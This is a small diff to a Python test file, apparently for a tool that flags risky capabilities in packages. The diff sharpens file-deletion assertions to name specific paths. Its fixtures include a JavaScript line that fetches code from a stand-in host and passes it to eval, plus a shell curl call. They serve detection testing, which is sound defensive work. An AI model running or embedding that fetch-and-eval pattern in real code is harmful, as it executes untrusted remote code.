@@ -75,7 +75,8 @@ atexit.register(os.rmdir, "b")
     found = {(use.capability, use.destination) for use in uses_of(tmp_path, "p-1.tar.gz", members)}
     assert ("process.shell", "curl https://example.org") in found
     assert ("net.connect", "https://example.org") in found
-    assert ("fs.delete", None) in found
+    assert ("fs.delete", "a") in found
+    assert ("fs.delete", "b") in found
     script = 'fetch("https://x.example").then((r) => r.text()).then(eval);'
     assert "code.eval" in {capability for capability, _, _ in entries(tmp_path, script)}
 
